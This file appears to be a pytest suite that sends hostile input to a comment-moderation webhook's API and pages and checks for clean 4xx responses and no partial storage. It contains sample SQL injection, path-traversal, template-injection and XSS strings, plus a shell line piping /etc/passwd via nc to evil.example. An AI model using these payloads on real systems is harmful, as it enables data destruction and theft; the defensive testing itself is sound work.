"""Hostile input on every endpoint (issue #11): each request gets the documented 4xx problem document, or,
for text that is odd but valid, a 200 with the text stored exactly once; never a 500, nothing half-stored,
and the service goes on serving.

The app is the real one over a real SQLite file; every table is counted before and after each request.
"""

from __future__ import annotations

import copy
import json
import re
import sys
import unicodedata
import uuid
from pathlib import Path
from urllib.parse import quote

import pytest
from werkzeug.security import generate_password_hash

from webhook import create_app
from webhook.accounts import issue_token
from webhook.signing import sign

SECRET = "whsec_aG9zdGlsZS1pbnB1dC1zdWl0ZS1zZWNyZXQ="
NOW = 1_790_000_000.0
ARTICLE = {"id": "hostile-article", "title": "Iranian militias in Diyala", "text": "The Badr Organization and Iraq's army in Diyala."}
TEN_MB = 10 * 1024 * 1024


def _one_of_each_category() -> str:
    found: dict[str, str] = {}
    for codepoint in range(33, sys.maxunicode + 1):
        category = unicodedata.category(chr(codepoint))
        if category != "Cs" and category not in found:
            found[category] = chr(codepoint)
    return "".join(found.values())


EVERY_CATEGORY = _one_of_each_category()

# Odd but valid text: each is stored exactly as sent, wherever a string goes.
ODD_TEXT = {
    "nul byte": "a\x00b",
    "right-to-left override": "\u202etxt.exe\u202c and \u2067isolated\u2069",
    "every general category": EVERY_CATEGORY,
    "sql injection": "'; DROP TABLE comments; --",
    "sql tautology": "1' OR '1'='1' /*",
    "shell injection": "$(rm -rf /) `id` ; cat /etc/passwd | nc evil.example 80 &",
    "jinja template": "{{7*7}} {{ config.items() }} {% debug %}",
    "dollar template": "${7*7} #{7*7} <%= 7*7 %>",
    "path traversal": "../../etc/passwd",
    "encoded traversal": "..%2F..%2Fetc%2Fpasswd %2e%2e%2f",
    "windows traversal": "..\\..\\windows\\win.ini",
    "markup": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "emoji sequence": "👩‍👩‍👧 🏳️‍🌈",
    "noncharacters": "\ufffe\uffff\U0010ffff",
    "format controls": "\u200b\u200d\u2060\ufeff text",
    "line separators": "one\u2028two\u2029three\r\n\x85four",
}


@pytest.fixture(scope="module")
def app(tmp_path_factory):
    db = tmp_path_factory.mktemp("hostile") / "hostile.db"
    app = create_app({"MODERATION_DB": str(db), "MODERATION_WEBHOOK_SECRETS": [SECRET], "MODERATION_CLOCK": lambda: NOW,
                      "MODERATION_FLOOD_LIMIT": 0, "SECRET_KEY": "hostile-test"})
    moderators = app.extensions["moderation.moderators"]
    moderators.add_moderator("maria", generate_password_hash("correct horse"), "2026-01-01T00:00:00")
    app.config["TEST_TOKEN"] = issue_token(moderators, "maria", "2026-01-01T00:00:00")
    client = app.test_client()
    assert _signed(client, "POST", "/v1/comments", _comment(cid="held-1", body="The envoy is a clown.")).status_code == 200
    return app


@pytest.fixture(scope="module")
def pages(app):
    """A client signed in as a moderator, and the CSRF token of its session."""
    client = app.test_client()
    token = _csrf(client.get("/sign-in").get_data(as_text=True))
    assert client.post("/sign-in", data={"name": "maria", "password": "correct horse", "csrf": token}).status_code == 302
    return client, _csrf(client.get("/").get_data(as_text=True))


def _csrf(html: str) -> str:
    return re.search(r'name="csrf" value="([^"]+)"', html).group(1)


def _comment(cid: str | None = None, body: str = "A fair point about the Badr Organization in Diyala.", **extra) -> dict:
    return {"id": cid or f"h-{uuid.uuid4().hex[:12]}", "body": body, "article": dict(ARTICLE), "author": {"id": "hostile-author", "display_name": "Hostile"}, **extra}


def _signed(client, method: str, path: str, payload=None, raw: bytes | None = None, content_type: str | None = "application/json"):
    body = raw if raw is not None else (json.dumps(payload).encode() if payload is not None else b"")
    message_id = f"msg_{uuid.uuid4().hex}"
    headers = {"webhook-id": message_id, "webhook-timestamp": str(int(NOW)), "webhook-signature": sign(SECRET, message_id, int(NOW), body)}
    if content_type:
        headers["Content-Type"] = content_type
    return client.open(path, method=method, data=body, headers=headers)


def _tables(app) -> dict[str, int]:
    connection = app.extensions["moderation.store"].connection
    names = [row[0] for row in connection.execute("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%'")]
    return {name: connection.execute(f'SELECT COUNT(*) FROM "{name}"').fetchone()[0] for name in names}


def _changed(before: dict, after: dict) -> dict:
    return {name: after[name] - before[name] for name in after if after[name] != before.get(name, 0)}


def _assert_problem(response, status: int, field: str | None = None) -> None:
    assert response.status_code == status, (response.status_code, response.get_data()[:300])
    assert response.mimetype == "application/problem+json"
    problem = response.get_json()
    assert {"type", "title", "status", "detail"} <= set(problem) and problem["status"] == status
    assert isinstance(problem["detail"], str) and problem["detail"]
    if status == 422:
        assert problem["field"] == field, problem


def _stored(app, comment_id: str) -> list:
    connection = app.extensions["moderation.store"].connection
    rows = connection.execute("SELECT body, author_id, article_id FROM comments WHERE id = ?", (comment_id,)).fetchall()
    decisions = connection.execute("SELECT COUNT(*) FROM decisions WHERE comment_id = ?", (comment_id,)).fetchone()[0]
    return [tuple(row) for row in rows], decisions


def _without(data: dict, path: str) -> dict:
    data = copy.deepcopy(data)
    *parents, last = path.split(".")
    target = data
    for key in parents:
        target = target[key]
    del target[last]
    return data


def _with(data: dict, path: str, value) -> dict:
    data = copy.deepcopy(data)
    *parents, last = path.split(".")
    target = data
    for key in parents:
        target = target[key]
    target[last] = value
    return data


# -- POST /v1/comments: what is refused ----------------------------------------------------------

def _raw(payload) -> bytes:
    return json.dumps(payload).encode()


REFUSED_COMMENTS = [
    # (case, raw body, status, field)
    ("empty body", b"", 400, None),
    ("whitespace body", b"  \n\t ", 400, None),
    ("truncated object", b'{"id": "x", "body": "y"', 400, None),
    ("trailing comma", b'{"id": "x",}', 400, None),
    ("single quotes", b"{'id': 'x'}", 400, None),
    ("trailing garbage", b'{"id": "x"} and more', 400, None),
    ("bare word", b"nul", 400, None),
    ("NUL outside a string", b'{"id": "x"\x00}', 400, None),
    ("raw control character in a string", b'{"id": "x", "body": "a\x01b"}', 400, None),
    ("invalid UTF-8 in a string", b'{"id": "x", "body": "\xff\xfe"}', 400, None),
    ("overlong UTF-8 slash", b'{"id": "\xc0\xaf"}', 400, None),
    ("truncated UTF-8", b'{"id": "\xe2\x82"}', 400, None),
    ("UTF-8 encoded surrogate", b'{"id": "\xed\xa0\x80"}', 422, "id"),  # read as a lone surrogate: no text
    ("array nested 100,000 deep", b"[" * 100_000 + b"]" * 100_000, 400, None),
    ("object nested 30,000 deep", b'{"a":' * 30_000 + b"1" + b"}" * 30_000, 400, None),
    ("a number of 5,000 digits", b'{"id": "x", "revision": ' + b"9" * 5_000 + b"}", 400, None),
    ("null", b"null", 422, "$"),
    ("an array", b"[]", 422, "$"),
    ("a string", b'"a comment"', 422, "$"),
    ("a number", b"42", 422, "$"),
    ("an empty object", b"{}", 422, "id"),
    ("NaN as revision", _raw(_comment())[:-1] + b', "revision": NaN}', 422, "revision"),
    ("Infinity as revision", _raw(_comment())[:-1] + b', "revision": Infinity}', 422, "revision"),
    ("10 MB body", _raw(_comment(body="x" * TEN_MB)), 413, None),
    ("body of 100,001 characters", _raw(_comment(body="word " * 20_000 + "x")), 422, "body"),
    ("id of 201 characters", _raw(_comment(cid="i" * 201)), 422, "id"),
]
for path in ("id", "body", "article", "author", "article.id", "author.id"):
    REFUSED_COMMENTS.append((f"missing {path}", _raw(_without(_comment(), path)), 422, path))
for path, values in {
    "id": [None, "", "   ", [], {}, 1.5, True],
    "body": [None, "", " \n\t\u3000", 5, [], {"text": "x"}, True, ["nested"] * 3],
    "revision": [0, -1, 2**31, 10**30, 1.5, "1", True, [1]],
    "edited": ["yes", 1, None],
    "parent_id": [[], {}, "", 2.5],
    "created_at": ["yesterday", 5, "2026-13-45T99:99:99"],
    "article": ["hostile-article", [], None, 7],
    "article.id": [None, "", [], {}],
    "article.title": [5, [], {}],
    "article.text": [5, ["x"]],
    "author": ["hostile-author", [], None],
    "author.id": [None, "", "  ", [], {}, False],
    "author.display_name": [5, [], {}],
    "author.email_hash": [5, []],
    "author.ip": ["999.1.1.1", "localhost", 5, "1.2.3.4; rm -rf /", "::g"],
}.items():
    for value in values:
        REFUSED_COMMENTS.append((f"{path} = {json.dumps(value)[:20]}", _raw(_with(_comment(), path, value)), 422,
                                 path if path != "edited" or value is not None else None))
for path in ("id", "body", "parent_id", "article.id", "article.title", "author.id", "author.display_name", "author.ip"):
    # A lone surrogate escape is valid JSON but no text: it cannot be stored or sent on.
    REFUSED_COMMENTS.append((f"lone surrogate in {path}", _raw(_with(_comment(), path, "PLACEHOLDER")).replace(b"PLACEHOLDER", b"x\\ud800y"), 422, path))
# `"edited": null` means "not sent" (the revision defaults to 1): not a refusal.
REFUSED_COMMENTS = [case for case in REFUSED_COMMENTS if case[3] is not None or case[2] != 422]


@pytest.mark.parametrize("case, raw, status, field", REFUSED_COMMENTS, ids=[c[0] for c in REFUSED_COMMENTS])
def test_a_hostile_comment_is_refused_with_a_problem_and_nothing_is_stored(app, case, raw, status, field):
    client = app.test_client()
    before = _tables(app)
    _assert_problem(_signed(client, "POST", "/v1/comments", raw=raw), status, field)
    assert _changed(before, _tables(app)) == {}


@pytest.mark.parametrize("content_type", [None, "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/jsonp"])
def test_a_comment_not_sent_as_json_is_a_415_and_nothing_is_stored(app, content_type):
    before = _tables(app)
    _assert_problem(_signed(app.test_client(), "POST", "/v1/comments", _comment(), content_type=content_type), 415)
    assert _changed(before, _tables(app)) == {}


# -- POST /v1/comments: odd but valid text is stored exactly as sent, once --------------------------

ODD_PLACES = ["body", "id", "author.id", "article.id", "author.display_name", "parent_id"]
ODD_CASES = [(place, name) for place in ODD_PLACES for name in ODD_TEXT]


@pytest.mark.parametrize("place, name", ODD_CASES, ids=[f"{p}: {n}" for p, n in ODD_CASES])
def test_odd_but_valid_text_gets_a_verdict_and_is_stored_exactly_once(app, place, name):
    client = app.test_client()
    value = ODD_TEXT[name]
    tag = uuid.uuid4().hex[:8]
    # Ids carry a tag so each case stores a comment of its own; the body and names go as they are.
    text = f"{value} {tag}" if place in ("id", "author.id", "article.id", "parent_id") else value
    payload = _with(_comment(), place, text)
    if place == "body":
        payload["body"] = f"{value} about the Badr Organization"
    before = _tables(app)
    response = _signed(client, "POST", "/v1/comments", payload)
    assert response.status_code == 200, response.get_data()[:300]
    verdict = response.get_json()
    assert verdict["comment_id"] == payload["id"] and verdict["action"] in ("approve", "hold", "reject")
    for reason in verdict["reasons"]:
        if reason["start"] is not None:
            assert payload["body"][reason["start"]:reason["end"]] == reason["evidence"]
    changed = _changed(before, _tables(app))
    assert changed.pop("comments") == 1 and changed.pop("decisions") == 1 and changed.pop("deliveries") == 1
    assert set(changed) <= {"authors", "articles", "bans"} and all(v == 1 for v in changed.values())
    rows, decisions = _stored(app, payload["id"])
    assert rows == [(payload["body"], payload["author"]["id"], payload["article"]["id"])] and decisions == 1
    # The same delivery again replays the stored verdict: still one row each.
    again = _signed(client, "POST", "/v1/comments", payload)
    assert again.status_code == 200 and again.headers.get("Idempotent-Replayed") == "true"
    assert again.get_json()["decision_id"] == verdict["decision_id"] and _stored(app, payload["id"])[1] == 1
    if place == "id":
        # And the platform can read it back by that id, percent-encoded in the URL.
        state = _signed(client, "GET", "/v1/comments/" + quote(payload["id"], safe=""), content_type=None)
        assert state.status_code == 200 and state.get_json()["comment_id"] == payload["id"]


def test_extra_and_duplicate_fields_are_ignored_and_the_comment_stored_once(app):
    client = app.test_client()
    payload = _comment(extra={"deep": json.loads("[" * 500 + "]" * 500)}, unknown="\\ud800", __proto__={"admin": True})
    payload["author"]["role"] = "admin"
    payload["article"]["published"] = False
    raw = json.dumps(payload).encode()[:-1] + b', "lonely": "\\udfff", "id": ' + json.dumps(payload["id"]).encode() + b"}"
    before = _tables(app)
    response = _signed(client, "POST", "/v1/comments", raw=raw)
    assert response.status_code == 200, response.get_data()
    assert _changed(before, _tables(app)) == {"comments": 1, "decisions": 1, "deliveries": 1}
    assert _stored(app, payload["id"])[1] == 1


def test_templates_in_comments_are_shown_as_written_never_evaluated(app, pages):
    client, _ = pages
    body = "The envoy is a clown {{7*7}} ${7*7} {% raw %}<%= 7*7 %>"
    assert _signed(app.test_client(), "POST", "/v1/comments", _comment(cid="template-1", body=body)).status_code == 200
    html = client.get("/").get_data(as_text=True)
    assert "{{7*7}} ${7*7} {% raw %}&lt;%= 7*7 %&gt;" in html


# -- PUT /v1/articles/<id> -------------------------------------------------------------------------

def _article(**changes) -> dict:
    return {"title": "Iranian militias in Diyala", "text": "The Badr Organization and Iraq's army.", **changes}


REFUSED_ARTICLES = [
    ("empty body", "a1", b"", 400, None),
    ("whitespace body", "a1", b"   ", 400, None),
    ("invalid JSON", "a1", b'{"title": ', 400, None),
    ("invalid UTF-8", "a1", b'{"title": "\xff", "text": "x"}', 400, None),
    ("nested 100,000 deep", "a1", b"[" * 100_000 + b"]" * 100_000, 400, None),
    ("10 MB body", "a1", _raw(_article(text="x" * TEN_MB)), 413, None),
    ("an array", "a1", b"[]", 422, "$"),
    ("null", "a1", b"null", 422, "$"),
    ("missing title", "a1", _raw({"text": "x"}), 422, "title"),
    ("missing text", "a1", _raw({"title": "x"}), 422, "text"),
    ("title a number", "a1", _raw(_article(title=5)), 422, "title"),
    ("text a list", "a1", _raw(_article(text=["x"])), 422, "text"),
    ("blank title", "a1", _raw(_article(title="  ")), 422, "title"),
    ("title of 1,001 characters", "a1", _raw(_article(title="t" * 1_001)), 422, "title"),
    ("lone surrogate in text", "a1", b'{"title": "t", "text": "\\ud800"}', 422, "text"),
    ("id of 201 characters", "i" * 201, _raw(_article()), 422, "id"),
    ("blank id", "%20%20", _raw(_article()), 422, "id"),
]


@pytest.mark.parametrize("case, article_id, raw, status, field", REFUSED_ARTICLES, ids=[c[0] for c in REFUSED_ARTICLES])
def test_a_hostile_article_is_refused_with_a_problem_and_nothing_is_stored(app, case, article_id, raw, status, field):
    before = _tables(app)
    _assert_problem(_signed(app.test_client(), "PUT", f"/v1/articles/{article_id}", raw=raw), status, field)
    assert _changed(before, _tables(app)) == {}


@pytest.mark.parametrize("name", list(ODD_TEXT), ids=list(ODD_TEXT))
def test_an_article_with_odd_text_is_registered_exactly_as_sent(app, name):
    client = app.test_client()
    value = ODD_TEXT[name]
    article_id = f"{value} {uuid.uuid4().hex[:8]}"
    if "/" in article_id:
        article_id = article_id.replace("/", "\u2215")  # a slash ends the URL segment: that case is in the next test
    before = _tables(app)
    response = _signed(client, "PUT", "/v1/articles/" + quote(article_id, safe=""), _article(title=value, text=value))
    assert response.status_code == 200, response.get_data()[:300]
    assert _changed(before, _tables(app)) == {"articles": 1, "deliveries": 1}
    row = app.extensions["moderation.store"].connection.execute("SELECT title, text FROM articles WHERE id = ?", (article_id,)).fetchone()
    assert tuple(row) == (value, value)


@pytest.mark.parametrize("path", ["../../etc/passwd", "..%2F..%2Fetc%2Fpasswd", "%2e%2e/%2e%2e/etc/passwd", "a/b", "..%5C..%5Cwin.ini",
                                  "%2e%2e", "."])
def test_path_traversal_in_an_article_id_reaches_no_file(app, path):
    before = _tables(app)
    response = _signed(app.test_client(), "PUT", f"/v1/articles/{path}", _article())
    if response.status_code == 200:
        # A dotted id that stays one URL segment is only a name: it is stored as one, nowhere on disk.
        assert _changed(before, _tables(app)) == {"articles": 1, "deliveries": 1}
        assert response.get_json()["id"] in ("..", "..\\..\\win.ini", ".")
    else:
        # A slash, plain or encoded, leaves the route: no such endpoint.
        _assert_problem(response, 404)
        assert _changed(before, _tables(app)) == {}


# -- GET /v1/comments/<id> -------------------------------------------------------------------------

UNKNOWN_IDS = ["..%2F..%2Fetc%2Fpasswd", "%2e%2e", "%00", "%ff%fe", "%ed%a0%80", quote("'; DROP TABLE comments; --"), quote("{{7*7}}"),
               quote("${7*7}"), quote("\u202etxt"), quote(EVERY_CATEGORY), "x" * 300]


@pytest.mark.parametrize("comment_id", UNKNOWN_IDS)
def test_reading_an_unknown_or_hostile_comment_id_is_a_404(app, comment_id):
    before = _tables(app)
    _assert_problem(_signed(app.test_client(), "GET", f"/v1/comments/{comment_id}", content_type=None), 404)
    # A signed read stores nothing but its delivery (so the id cannot be replayed for another comment).
    assert _changed(before, _tables(app)) in ({}, {"deliveries": 1})


@pytest.mark.parametrize("path, status", [("/v1/comments/../../etc/passwd", 404), ("/v1/comments/" + "x" * 3_000, 414),
                                          ("/v1/comments/..", 404), ("/v1/comments/", 404)])
def test_traversal_and_overlong_paths_for_a_comment_are_refused(app, path, status):
    response = _signed(app.test_client(), "GET", path, content_type=None)
    assert response.status_code in (status, 308) and response.status_code != 500
    if response.status_code != 308:
        _assert_problem(response, status)


def test_a_get_with_a_10_mb_body_is_a_413(app):
    _assert_problem(_signed(app.test_client(), "GET", "/v1/comments/held-1", raw=b"x" * TEN_MB, content_type=None), 413)


# -- the tools: GET /v1/queue, GET /v1/numbers, POST /v1/comments/<id>/review ------------------------

def _tool(app, method: str, path: str, raw: bytes | None = None, content_type: str = "application/json"):
    return app.test_client().open(path, method=method, data=raw, headers={"Authorization": f"Bearer {app.config['TEST_TOKEN']}", "Content-Type": content_type})


QUERY_VALUES = ["%00", "%ff", "%ed%a0%80", quote("'; DROP TABLE comments; --"), quote("{{7*7}}"), quote("../../etc/passwd", safe=""), "x" * 900,
                quote(EVERY_CATEGORY)]


@pytest.mark.parametrize("value", QUERY_VALUES)
def test_the_queue_filters_read_hostile_values_as_plain_strings(app, value):
    before = _tables(app)
    response = _tool(app, "GET", f"/v1/queue?category={value}&article={value}")
    assert response.status_code == 200 and response.get_json() == {"items": []}
    assert _changed(before, _tables(app)) == {}


@pytest.mark.parametrize("days", ["0", "-1", "3651", "1e3", "1.5", "%00", "%ff", "abc", "99999999999999999999999", "%C2%B2", "%E2%91%A0",
                                  "%D9%A3", "%EF%BC%91", quote("1; DROP TABLE decisions"), "x" * 1_500])
def test_the_numbers_refuse_any_period_but_a_whole_number_of_days(app, days):
    before = _tables(app)
    _assert_problem(_tool(app, "GET", f"/v1/numbers?days={days}"), 422, "days")
    assert _changed(before, _tables(app)) == {}


REFUSED_REVIEWS = [
    ("invalid JSON", b'{"action": ', 400, None),
    ("whitespace body", b"   ", 400, None),
    ("invalid UTF-8", b'{"action": "approve", "note": "\xff"}', 400, None),
    ("nested 100,000 deep", b"[" * 100_000 + b"]" * 100_000, 400, None),
    ("a number of 5,000 digits", b'{"action": "ban", "ban_days": ' + b"1" * 5_000 + b"}", 400, None),
    ("10 MB body", _raw({"action": "approve", "note": "x" * TEN_MB}), 413, None),
    ("empty body", b"", 422, "action"),
    ("an array", b"[]", 422, "$"),
    ("null", b"null", 422, "$"),
    ("missing action", _raw({"note": "x"}), 422, "action"),
    ("unknown action", _raw({"action": "delete"}), 422, "action"),
    ("action with an injection", _raw({"action": "approve'; DROP TABLE decisions; --"}), 422, "action"),
    ("action a list", _raw({"action": ["approve"]}), 422, "action"),
    ("note a number", _raw({"action": "approve", "note": 5}), 422, "note"),
    ("note of 2,001 characters", _raw({"action": "approve", "note": "n" * 2_001}), 422, "note"),
    ("note with a lone surrogate", b'{"action": "approve", "note": "x\\ud800"}', 422, "note"),
    ("ban_days zero", _raw({"action": "ban", "ban_days": 0}), 422, "ban_days"),
    ("ban_days a string", _raw({"action": "ban", "ban_days": "7"}), 422, "ban_days"),
    ("ban_days true", _raw({"action": "ban", "ban_days": True}), 422, "ban_days"),
    ("ban_days huge", _raw({"action": "ban", "ban_days": 10**30}), 422, "ban_days"),
]


@pytest.mark.parametrize("case, raw, status, field", REFUSED_REVIEWS, ids=[c[0] for c in REFUSED_REVIEWS])
def test_a_hostile_review_is_refused_with_a_problem_and_nothing_is_recorded(app, case, raw, status, field):
    before = _tables(app)
    _assert_problem(_tool(app, "POST", "/v1/comments/held-1/review", raw), status, field)
    assert _changed(before, _tables(app)) == {}


@pytest.mark.parametrize("comment_id", ["..%2F..%2Fetc%2Fpasswd", "%2e%2e", "%00", "%ff", quote("'; DROP TABLE comments; --"), quote("{{7*7}}")])
def test_reviewing_an_unknown_or_hostile_comment_id_is_a_404(app, comment_id):
    before = _tables(app)
    _assert_problem(_tool(app, "POST", f"/v1/comments/{comment_id}/review", _raw({"action": "approve"})), 404)
    assert _changed(before, _tables(app)) == {}


@pytest.mark.parametrize("name", list(ODD_TEXT), ids=list(ODD_TEXT))
def test_a_review_note_with_odd_text_is_recorded_once_as_written(app, name):
    cid = f"review-{uuid.uuid4().hex[:8]}"
    assert _signed(app.test_client(), "POST", "/v1/comments", _comment(cid=cid, body="The envoy is a clown.")).status_code == 200
    before = _tables(app)
    response = _tool(app, "POST", f"/v1/comments/{cid}/review", _raw({"action": "reject", "note": ODD_TEXT[name]}))
    assert response.status_code == 200, response.get_data()[:300]
    assert _changed(before, _tables(app)) == {"decisions": 1, "audit_log": 1, "outbox": 1}
    row = app.extensions["moderation.store"].connection.execute("SELECT moderator, detail FROM audit_log WHERE comment_id = ?", (cid,)).fetchone()
    assert tuple(row) == ("maria", ODD_TEXT[name])


# -- the pages: /sign-in, /, /decide, /authors/<id>, /audit, /numbers --------------------------------

PAGE_QUERIES = ["%00", "%ff", "%ed%a0%80", quote("'; DROP TABLE comments; --"), quote("{{7*7}}"), quote("${7*7}"), quote("\u202eevil"),
                quote(EVERY_CATEGORY, safe=""), "x" * 900]


@pytest.mark.parametrize("value", PAGE_QUERIES)
@pytest.mark.parametrize("page", ["/?category={v}&article={v}", "/audit?x={v}", "/sign-in?next={v}", "/authors/{v}"])
def test_pages_read_hostile_query_and_path_values_as_plain_strings(app, pages, page, value):
    client, _ = pages
    before = _tables(app)
    response = client.get(page.format(v=value))
    assert response.status_code == 200, response.get_data()[:300]
    assert response.mimetype == "text/html"
    assert _changed(before, _tables(app)) == {}


@pytest.mark.parametrize("path", ["/authors/../../etc/passwd", "/authors/..%2F..%2Fetc%2Fpasswd", "/authors/a/b", "/authors/" + "x" * 3_000,
                                  "/..%2F..%2Fetc%2Fpasswd", "/static/..%2F..%2Fwebhook%2F__init__.py", "/static/../../webhook/__init__.py"])
def test_path_traversal_on_the_pages_reaches_no_file(app, pages, path):
    client, _ = pages
    response = client.get(path)
    assert b"create_app" not in response.get_data() and b"root:" not in response.get_data()
    if path.startswith("/authors/") and response.status_code == 200:
        # Author ids may hold slashes (platforms' ids do): the page of an author of that name, unknown here.
        assert response.mimetype == "text/html" and b"No comment from this author" in response.get_data()
    else:
        assert response.status_code in (404, 414) and response.mimetype == "application/problem+json", response.status_code


def test_the_page_of_an_author_whose_id_holds_a_slash_can_be_opened(app, pages):
    # An author id with a slash is accepted in a body; its page (linked from the queue) is a 404.
    # The fix, `<path:author_id>` with merge_slashes=False as in api.py, is in a file another engineer is changing.
    payload = _comment(body="The envoy is a clown.")
    payload["author"]["id"] = "forum/7/user"
    assert _signed(app.test_client(), "POST", "/v1/comments", payload).status_code == 200
    assert pages[0].get("/authors/" + quote("forum/7/user", safe="")).status_code == 200


@pytest.mark.parametrize("days", ["0", "3651", "abc", "%00", "%C2%B2", "%E2%91%A0", "99999999999999999999999", "x" * 1_500])
def test_the_numbers_page_refuses_any_period_but_a_whole_number_of_days(app, pages, days):
    client, _ = pages
    before = _tables(app)
    _assert_problem(client.get(f"/numbers?days={days}"), 422, "days")
    assert _changed(before, _tables(app)) == {}


def _decide(pages, **form):
    client, csrf = pages
    return client.post("/decide", data={"csrf": csrf, **form})


REFUSED_DECISIONS = [
    ("no comment selected", {"action": "approve"}, 422, "comment_id"),
    ("unknown action", {"action": "delete", "comment_id": "held-1"}, 422, "action"),
    ("injected action", {"action": "approve' OR 1=1 --", "comment_id": "held-1"}, 422, "action"),
    ("unknown comment", {"action": "approve", "comment_id": "../../etc/passwd"}, 404, None),
    ("a known and an unknown comment", {"action": "approve", "comment_id": ["held-1", "{{7*7}}"]}, 404, None),
    ("NUL comment id", {"action": "approve", "comment_id": "\x00"}, 404, None),
    ("ban_days zero", {"action": "ban", "comment_id": "held-1", "ban_days": "0"}, 422, "ban_days"),
    ("ban_days negative", {"action": "ban", "comment_id": "held-1", "ban_days": "-3"}, 422, "ban_days"),
    ("ban_days words", {"action": "ban", "comment_id": "held-1", "ban_days": "seven"}, 422, "ban_days"),
    ("ban_days huge", {"action": "ban", "comment_id": "held-1", "ban_days": "9" * 50}, 422, "ban_days"),
]


@pytest.mark.parametrize("case, form, status, field", REFUSED_DECISIONS, ids=[c[0] for c in REFUSED_DECISIONS])
def test_a_hostile_decision_form_is_refused_with_a_problem_and_nothing_is_recorded(app, pages, case, form, status, field):
    before = _tables(app)
    _assert_problem(_decide(pages, **form), status, field)
    assert _changed(before, _tables(app)) == {}


# Regression (issue #11): ban_days read with str.isdigit and int(): "²" and "①" were a 500, "٣" and "１"
# banned for 3 days and 1.
@pytest.mark.parametrize("days", ["²", "①", "٣", "１"])
def test_a_decision_with_non_ascii_digits_for_ban_days_is_refused(app, pages, days):
    before = _tables(app)
    response = _decide(pages, action="ban", comment_id="held-1", ban_days=days)
    assert response.status_code == 422 and response.mimetype == "application/problem+json"
    assert _changed(before, _tables(app)) == {}


@pytest.mark.parametrize("name", list(ODD_TEXT), ids=list(ODD_TEXT))
def test_a_decision_form_with_odd_text_is_recorded_once(app, pages, name):
    cid = f"page-{uuid.uuid4().hex[:8]}"
    assert _signed(app.test_client(), "POST", "/v1/comments", _comment(cid=cid, body="The envoy is a clown.")).status_code == 200
    before = _tables(app)
    response = _decide(pages, action="approve", comment_id=cid, note=ODD_TEXT[name], back=ODD_TEXT[name])
    assert response.status_code == 302
    # Only a path on this site is followed back.
    assert response.headers["Location"].startswith("/") and not response.headers["Location"].startswith("//")
    assert _changed(before, _tables(app)) == {"decisions": 1, "audit_log": 1, "outbox": 1}


@pytest.mark.parametrize("name, password", [("\x00", "\x00"), ("'; DROP TABLE moderators; --", "' OR '1'='1"), ("{{7*7}}", "${7*7}"),
                                            ("\u202enimda", "x" * 5_000), (EVERY_CATEGORY, EVERY_CATEGORY), ("maria", "")])
def test_sign_in_with_hostile_credentials_is_refused_and_only_the_failure_is_counted(app, name, password):
    client = app.test_client()
    csrf = _csrf(client.get("/sign-in").get_data(as_text=True))
    before = _tables(app)
    response = client.post("/sign-in", data={"name": name, "password": password, "csrf": csrf})
    assert response.status_code == 401 and "Wrong name or password" in response.get_data(as_text=True)
    assert _changed(before, _tables(app)) == {"sign_in_failures": 1}
    assert client.get("/").status_code == 302  # not signed in


@pytest.mark.parametrize("path", ["/sign-in", "/decide"])
def test_a_10_mb_form_is_a_413(app, pages, path):
    client, csrf = pages
    before = _tables(app)
    _assert_problem(client.post(path, data={"csrf": csrf, "note": "x" * TEN_MB, "action": "approve", "comment_id": "held-1"}), 413)
    assert _changed(before, _tables(app)) == {}


@pytest.mark.parametrize("raw, content_type", [(b'{"action": "approve", "comment_id": "held-1"}', "application/json"), (b"\xff\xfe\x00", "application/x-www-form-urlencoded"),
                                               (b"--x\r\nbroken", "multipart/form-data; boundary=x"), (b"", "")])
def test_a_decision_posted_in_another_shape_is_refused_as_a_stale_form(app, pages, raw, content_type):
    client, _ = pages
    before = _tables(app)
    response = client.post("/decide", data=raw, headers={"Content-Type": content_type} if content_type else {})
    _assert_problem(response, 400)
    assert _changed(before, _tables(app)) == {}


# -- afterwards ------------------------------------------------------------------------------------

def test_after_all_of_that_the_service_still_serves_and_the_database_is_whole(app, pages):
    client = app.test_client()
    payload = _comment(cid="after-the-storm")
    payload["author"]["id"] = "a-new-author"  # the hostile author may have earned a ban by now
    response = _signed(client, "POST", "/v1/comments", payload)
    assert response.status_code == 200 and response.get_json()["action"] in ("approve", "hold")
    assert _stored(app, "after-the-storm") == ([(payload["body"], "a-new-author", ARTICLE["id"])], 1)
    assert pages[0].get("/").status_code == 200 and _tool(app, "GET", "/v1/queue").status_code == 200
    connection = app.extensions["moderation.store"].connection
    assert connection.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    # Every decision belongs to a stored comment revision, and every comment has one.
    assert connection.execute("SELECT COUNT(*) FROM decisions d LEFT JOIN comments c ON c.id = d.comment_id AND c.revision = d.revision "
                              "WHERE c.id IS NULL").fetchone()[0] == 0
    assert connection.execute("SELECT COUNT(*) FROM comments c WHERE NOT EXISTS (SELECT 1 FROM decisions d WHERE d.comment_id = c.id)").fetchone()[0] == 0


# -- the 10 MB body against the real server ---------------------------------------------------------

def test_a_10_mb_post_to_the_real_server_is_answered_413_and_the_server_keeps_serving(tmp_path):
    # Regression (issue #11): the app refused the body unread and gunicorn closed the
    # socket on a client still sending it: the client saw a broken pipe, never the 413.
    sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "benchmarks" / "reliability"))
    from common import Server, comment, post, read_db

    with Server(tmp_path / "real.db", log=tmp_path / "server.log") as server:
        status, headers, body = post(server.port, "msg_ten_mb", comment("ten-mb", body="x" * TEN_MB))
        assert status == 413 and headers["content-type"] == "application/problem+json"
        assert json.loads(body)["status"] == 413
        status, _, body = post(server.port, "msg_after", comment("after-ten-mb"))
        assert status == 200 and json.loads(body)["comment_id"] == "after-ten-mb"
    with read_db(tmp_path / "real.db") as db:
        assert [row[0] for row in db.execute("SELECT id FROM comments")] == ["after-ten-mb"]
